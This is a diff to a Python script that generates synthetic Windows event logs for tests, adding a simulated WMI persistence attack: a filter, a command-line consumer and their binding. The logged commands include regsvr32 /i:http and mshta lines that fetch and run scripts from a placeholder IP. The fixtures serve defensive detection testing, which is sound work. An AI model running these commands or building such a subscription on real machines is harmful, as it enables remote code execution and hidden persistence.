@@ -14,7 +14,12 @@
 #  09:10 a service installed (4697) whose rundll32 action services.exe
 #        starts; 09:12 another (7045, %COMSPEC% /c mshta http...);
 #  09:15 schtasks registers a task (4698, ClientProcessId) whose action,
-#        regsvr32 /i:http, the Schedule service starts at 09:20.
+#        regsvr32 /i:http, the Schedule service starts at 09:20;
+#  09:25 a WMI subscription (T1546.003): a filter on
+#        __InstanceModificationEvent (Sysmon 19), a CommandLineEventConsumer
+#        running regsvr32 /i:http (20), their binding (21) and
+#        WMI-Activity's 5861; at 09:30 the consumer host (scrcons.exe)
+#        starts the consumer's command.
 import os, sys
 
 OUT = sys.argv[1]
@@ -127,6 +132,50 @@ s.append(proc(r, '09:20:00.1000000', 11, 5230, SYS32 + 'regsvr32.exe',
               'C:\\Windows\\System32\\regsvr32.exe /s /u '
               '/i:http://203.0.113.9/t.sct scrobj.dll', SVCHOST,
               'CORP\\bob'))
+
+# ---- WMI persistence (T1546.003): filter, consumer, binding; the
+# consumer host WmiPrvSE starts scrcons, and the consumer's command runs
+# under it.  Sysmon logs the values quoted, with backslash escapes.
+def wq(v):
+    return ' "%s"' % v.replace('\\', '\\\\').replace('"', '\\"')
+
+
+WMI_NAME = 'SysPerfMon'
+WMI_QUERY = ('SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE '
+             'TargetInstance ISA \'Win32_PerfFormattedData_PerfOS_System\' '
+             'AND TargetInstance.SystemUpTime >= 240')
+WMI_CMD = ('C:\\Windows\\System32\\regsvr32.exe /s /n /u '
+           '/i:http://203.0.113.9/w.sct scrobj.dll')
+WMI_SUB = '\\\\.\\ROOT\\subscription:'
+r += 1
+s.append(sysmon(r, '09:25:00.1000000', 19, [
+    ('RuleName', '-'), ('EventType', 'WmiFilterEvent'),
+    ('UtcTime', DAY + ' 09:25:00.100'), ('Operation', 'Created'),
+    ('User', 'CORP\\bob'), ('EventNamespace', wq('root\\cimv2')),
+    ('Name', wq(WMI_NAME)), ('Query', wq(WMI_QUERY))]))
+r += 1
+s.append(sysmon(r, '09:25:00.2000000', 20, [
+    ('RuleName', '-'), ('EventType', 'WmiConsumerEvent'),
+    ('UtcTime', DAY + ' 09:25:00.200'), ('Operation', 'Created'),
+    ('User', 'CORP\\bob'), ('Name', wq(WMI_NAME)),
+    ('Type', 'Command Line'), ('Destination', wq(WMI_CMD))]))
+r += 1
+s.append(sysmon(r, '09:25:00.3000000', 21, [
+    ('RuleName', '-'), ('EventType', 'WmiBindingEvent'),
+    ('UtcTime', DAY + ' 09:25:00.300'), ('Operation', 'Created'),
+    ('User', 'CORP\\bob'),
+    ('Consumer', wq(WMI_SUB + 'CommandLineEventConsumer.Name="%s"' % WMI_NAME)),
+    ('Filter', wq(WMI_SUB + '__EventFilter.Name="%s"' % WMI_NAME))]))
+WMIPRVSE = (12, 2210, SYS32 + 'wbem\\WmiPrvSE.exe',
+            SYS32 + 'wbem\\wmiprvse.exe -secured -Embedding')
+SCRCONS = (13, 5340, SYS32 + 'wbem\\scrcons.exe',
+           SYS32 + 'wbem\\scrcons.exe -Embedding')
+r += 1
+s.append(proc(r, '09:30:00.0500000', SCRCONS[0], SCRCONS[1], SCRCONS[2],
+              SCRCONS[3], WMIPRVSE, 'NT AUTHORITY\\SYSTEM'))
+r += 1
+s.append(proc(r, '09:30:00.1000000', 14, 5450, SYS32 + 'regsvr32.exe',
+              WMI_CMD, SCRCONS, 'NT AUTHORITY\\SYSTEM'))
 write('wks03-sysmon.spec', '\n'.join(s))
 
 # ---- PowerShell/Operational: script blocks ----
@@ -260,3 +309,34 @@ write('wks03-system.spec', '\n'.join([
     'http://203.0.113.9/s.hta',
     'data ServiceType=user mode service', 'data StartType=demand start',
     'data AccountName=LocalSystem']) + '\n')
+
+# ---- WMI-Activity/Operational: 5861, the permanent consumer bound ----
+CAUSE = ('Binding EventFilter: \\n'
+         'instance of __EventFilter\\n{\\n'
+         '\\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\\n'
+         '\\tEventNamespace = "root\\\\\\\\cimv2";\\n'
+         '\\tName = "' + WMI_NAME + '";\\n'
+         '\\tQuery = "' + WMI_QUERY + '";\\n'
+         '\\tQueryLanguage = "WQL";\\n};\\n'
+         'Perm. Consumer: \\n'
+         'instance of CommandLineEventConsumer\\n{\\n'
+         '\\tCommandLineTemplate = "' +
+         WMI_CMD.replace('\\', '\\\\\\\\') + '";\\n'
+         '\\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\\n'
+         '\\tName = "' + WMI_NAME + '";\\n};\\n')
+write('wks03-wmi.spec', '\n'.join([
+    '# wks03-wmi.spec -- WMI-Activity/Operational of WKS03: the permanent\n'
+    '# consumer bound to its filter (5861), with the MOF of both instances.\n'
+    '# Written by testdata/make-wks03.py.\n'
+    'output wks03/wks03-wmi.evtx\n',
+    'record', 'provider Microsoft-Windows-WMI-Activity '
+    '{1418EF04-B0B4-4623-BF7E-D74AB47BBDAA}', 'eventid 5861', 'level 0',
+    'keywords 0x4000000000000000',
+    'time %sT09:25:00.3500000Z' % DAY, 'recordid 801', 'pid 2210',
+    'tid 2344', 'channel Microsoft-Windows-WMI-Activity/Operational',
+    'computer ' + HOST, 'user S-1-5-18',
+    'userdata Operation_ESStoConsumerBinding '
+    'http://manifests.microsoft.com/win/2006/windows/WMI',
+    'data Namespace=//./root/subscription', 'data ESS=' + WMI_NAME,
+    'data CONSUMER=CommandLineEventConsumer="%s"' % WMI_NAME,
+    'edata PossibleCause=' + CAUSE]) + '\n')
